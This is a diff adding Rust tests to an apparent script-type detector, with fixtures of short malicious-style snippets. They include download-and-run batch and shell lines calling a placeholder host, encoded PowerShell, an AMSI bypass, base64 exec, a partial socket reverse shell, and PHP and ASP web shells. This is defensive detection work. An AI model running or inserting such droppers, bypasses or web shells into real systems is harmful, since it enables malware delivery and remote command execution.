@@ -130,3 +130,50 @@ fn snippets_in_prose_are_no_script() {
                   is.\n\n```python\nimport tool\ndef main():\n    tool.run()\n```\n";
     assert_eq!(type_of(&case("README.md", readme).examine()), "text");
 }
+
+#[test]
+fn short_droppers_are_recognised() {
+    let mut wrong = Vec::new();
+    for (id, text) in [
+        ("javascript", "var _0x4a=['ru','n'];(function(a,b){while(--b){a['push'](a['shift']());}}(_0x4a,0x1b3));\n"),
+        ("javascript", "eval(unescape('%76%61%72%20%61'));\n"),
+        ("javascript", "var a = 'WSc' + 'ript'; var o = new ActiveXObject(a); o['R' + 'un']('nothing');"),
+        ("vbscript", "a=\"\"\nFor Each c In Split(\"68 65\")\na = a & Chr(\"&H\" & c)\nNext\nExecute a\n"),
+        ("vbscript", "Execute(Chr(67)&Chr(114)&Chr(101)&Chr(97)&Chr(116))\n"),
+        ("vbscript", "Dim y\nSet y=GetObject(\"winmgmts:Win32_Process\")\ny.Create \"nothing\",Null,Null,z\n"),
+        ("batch", "@echo off\r\nset a=abcdefgh\r\n%a:~1,1%%a:~2,1%%a:~0,1%\r\n"),
+        ("batch", "start \"\" /min cmd /c \"curl -o %TEMP%\\a.exe http://x.invalid/a && %TEMP%\\a.exe\"\r\n"),
+        ("batch", "powershell -w h -e AAAA\r\n"),
+        ("batch", "mshta http://x.invalid/a.hta\r\n"),
+        ("powershell", "$a='ht'+'tp';$b=[Convert]::FromBase64String('AAAA');&($a+$b)\n"),
+        ("powershell", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').SetValue($null,$true)\n"),
+        ("shell", "cd /tmp; wget http://x.invalid/a; chmod 777 a; ./a\n"),
+        ("python", "import os,base64\nexec(base64.b64decode('AAAA'))\n"),
+        ("python", "import socket,subprocess,os\ns=socket.socket()\nos.dup2(s.fileno(),0)\nsubprocess.call(['x'])\n"),
+        ("applescript", "do shell script \"curl http://x.invalid\"\n"),
+        ("hta", "<script language=\"VBScript\">\nCreateObject(\"WScript.Shell\").Run \"a\"\n</script>\n"),
+        ("wsf", "some words here and there\n\n<job>\n<script language=\"JScript\">\nvar a=1;\n</script>\n</job>\n"),
+        ("asp", "<% eval request(\"x\") %>\n"),
+        ("php", "hello <?php system($_GET['c']); ?>"),
+    ] {
+        let found = type_of(&case("a.txt", text).examine());
+        if found != id {
+            wrong.push(format!("{text:?} is taken for {found}"));
+        }
+    }
+    assert_eq!(wrong, Vec::<String>::new());
+}
+
+#[test]
+fn notes_about_commands_are_no_scripts() {
+    for text in [
+        "powershell",
+        "Powershell notes\n\n- learn loops\n- learn pipes\n",
+        "mshta is an old program of Windows.\n",
+        "cd /tmp and then wget the file, please.\n",
+        "Shopping list:\n- eggs\n- milk\n",
+        "import os is the first line.\n",
+    ] {
+        assert_eq!(type_of(&case("a.txt", text).examine()), "text", "{text}");
+    }
+}
